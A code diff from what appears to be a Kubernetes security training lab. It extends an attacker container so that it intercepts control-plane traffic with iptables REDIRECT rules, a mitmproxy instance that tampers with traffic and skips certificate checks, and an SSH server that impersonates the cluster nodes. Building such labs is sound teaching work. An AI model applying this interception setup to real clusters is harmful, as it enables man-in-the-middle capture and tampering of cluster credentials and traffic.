@@ -20,8 +20,11 @@ sets of connections are redirected to mitmproxy on the router itself:
     mitmdump --mode transparent --listen-port 8080 --ssl-insecure -s lab/attacker/addon.py
 
 mitmproxy finds the original destination itself (SO_ORIGINAL_DST) and opens its own connection
-there (``--ssl-insecure``: it does not check the kubelet's certificate either). Only the apiserver's
-connections are taken, so a learner's own ``curl`` to a kubelet (scenario 3) passes untouched. The
+there (``--ssl-insecure``: it does not check the kubelet's certificate either). Port 22 (the SSH tunnels
+of ``LAB_TUNNEL=ssh``) goes to the attacker's own SSH server instead, which impersonates the nodes
+(lab/attacker/sshimpersonate.py, listening on 2222); port 8132 (the Konnectivity agents' connections
+IN to the server of ``LAB_TUNNEL=konnectivity``) goes to mitmproxy like the rest. Apart from rule 3, only
+the apiserver's connections are taken, so a learner's own ``curl`` to a kubelet (scenario 3) passes untouched. The
 rules are removed again on SIGTERM (compose's ``init: true`` delivers it here).
 """
 
@@ -40,14 +43,18 @@ from lab.attacker import loot
 from lab.topology import Topology
 
 LISTEN_PORT = 8080
+SSH_PORT, SSH_LISTEN_PORT = 22, 2222
+AGENT_PORT = 8132  # Konnectivity agents -> server: taken on the way IN to the control plane
+SSH_READY = Path("/run/lab/ssh-ready")  # touched by the impersonator once it listens
 ADDON = Path(__file__).with_name("addon.py")
 READY = Path("/run/lab/ready")  # touched by the addon once mitmproxy listens
 
 
 def nat_rules(top: Topology, ports: list[int]) -> list[list[str]]:
     """The PREROUTING rules (without -A/-D) that hand the apiserver's connections to mitmproxy."""
-    return [["PREROUTING", "-s", top.apiserver_ip, "-p", "tcp", "--dport", str(port),
-             "-j", "REDIRECT", "--to-port", str(LISTEN_PORT)] for port in ports]
+    return [["PREROUTING", "-d" if port == AGENT_PORT else "-s", top.apiserver_ip, "-p", "tcp", "--dport", str(port),
+             "-j", "REDIRECT", "--to-port", str(SSH_LISTEN_PORT if port == SSH_PORT else LISTEN_PORT)]
+            for port in ports]
 
 
 def pod_and_apiserver_rules(top: Topology) -> list[list[str]]:
@@ -58,7 +65,13 @@ def pod_and_apiserver_rules(top: Topology) -> list[list[str]]:
                *redirect] for source in (top.nodes_cidr, top.cluster_cidr))]
 
 
+def impersonator_argv() -> list[str]:
+    return ["/opt/venv/bin/python", "-m", "lab.attacker.sshimpersonate", "--port", str(SSH_LISTEN_PORT)]
+
+
 def mitmdump_argv() -> list[str]:
+    """addon.py reads and tampers; its GiveUp part (giveup.py) passes clients that verify through, for the
+    apiserver's 443 and the Konnectivity agent port 8132."""
     return ["mitmdump", "--mode", "transparent", "--listen-port", str(LISTEN_PORT), "--ssl-insecure",
             "-s", str(ADDON)]
 
@@ -69,11 +82,11 @@ def _iptables(op: str, rule: list[str]) -> None:
     subprocess.run(argv, check=op == "-A")
 
 
-def _wait_listening(child: subprocess.Popen[bytes], timeout: float = 60.0) -> bool:
+def _wait_listening(child: subprocess.Popen[bytes], timeout: float = 60.0, ready: Path = READY) -> bool:
     """Until the addon's ``running`` hook marked mitmproxy ready (so no connection is redirected to a
     port nobody listens on yet); False if mitmdump died first."""
     deadline = time.monotonic() + timeout
-    while not READY.exists():
+    while not ready.exists():
         if child.poll() is not None or time.monotonic() > deadline:
             print("attacker: mitmdump did not start; no interception", file=sys.stderr, flush=True)
             return False
@@ -98,20 +111,29 @@ def main(top: Topology) -> int:
     argv = mitmdump_argv()
     print("+ " + shlex.join(argv), flush=True)
     child = subprocess.Popen(argv)
+    impersonator = None
+    if SSH_PORT in ports:
+        print("+ " + shlex.join(impersonator_argv()), flush=True)
+        impersonator = subprocess.Popen(impersonator_argv())
 
     def stop(signum: int, frame: FrameType | None) -> None:
         child.terminate()
+        if impersonator is not None:
+            impersonator.terminate()
 
     signal.signal(signal.SIGTERM, stop)
     signal.signal(signal.SIGINT, stop)
     try:
         if not _wait_listening(child):
             return child.wait()
+        if impersonator is not None and not _wait_listening(impersonator, ready=SSH_READY):
+            return impersonator.wait()
         for rule in rules:
             _iptables("-A", rule)
         return child.wait()
     finally:
         for rule in rules:
             _iptables("-D", rule)
-        if child.poll() is None:
-            child.kill()
+        for proc in (child, impersonator):
+            if proc is not None and proc.poll() is None:
+                proc.kill()
